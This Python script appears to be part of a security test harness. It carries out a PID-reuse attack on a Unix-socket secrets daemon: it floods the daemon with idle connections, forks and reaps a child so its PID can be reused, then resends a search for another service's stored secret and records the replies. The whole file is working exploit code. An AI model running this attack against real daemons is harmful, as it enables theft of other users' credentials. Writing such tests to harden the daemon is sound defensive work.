"""Cross-user read by pid reuse (issue 13, attack 1).

usage: pid_reuse.py SOCKET IDLE SERVICE

Holds IDLE idle connections, so that a daemon with a thread per connection is slow to look at
new ones. A forked child connects on a socket the parent made, sends a search for SERVICE's
secret and exits; the parent keeps the socket. Once the test has put a process of a group member
on the child's old pid and says `close`, the idle connections close, the parent sends the same
search again (for a daemon that would look the caller up only when a request comes) and reads
what the daemon answers to both.

Lines out: `idle N`, `child PID sent|refused`, then per answer `reply STATUS HEX`, ending with
`closed` or `timeout` when fewer than two replies came, then `end`.
"""
import os
import socket
import sys
import time

import wire

path, idle_count, service = sys.argv[1], int(sys.argv[2]), sys.argv[3]
idle = wire.connect_many(path, idle_count)
wire.say("idle", len(idle))

search = wire.request(wire.OP_COPY_MATCHING,
                      {"class": "genp", "svce": service, "r_Attributes": True, "r_Data": True})
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.setblocking(False)
done_r, done_w = os.pipe()
child = os.fork()
if child == 0:
    # The kernel records the connecting process (this child) as the peer. A daemon that takes
    # no more connections of this user answers `refused`.
    outcome = b"refused\n"
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline:
        try:
            s.connect(path)
        except BlockingIOError:
            time.sleep(0.01)
            continue
        except OSError:
            break
        if wire.send_all(s, search, 5):
            outcome = b"sent\n"
        break
    os.write(done_w, outcome)
    os._exit(0)
os.close(done_w)
outcome = os.read(done_r, 100).decode().strip()
os.waitpid(child, 0)  # reaped: the pid is free for the next process
wire.say("child", child, outcome)

wire.wait_for("close")
wire.close_all(idle)
wire.send_all(s, search, 5)
for _ in range(2):
    kind, payload = wire.read_frame(s, 60)
    if kind != "reply":
        wire.say(kind)
        break
    wire.say("reply", wire.response_status(payload), payload.hex())
wire.say("end")
wire.wait_for("quit")
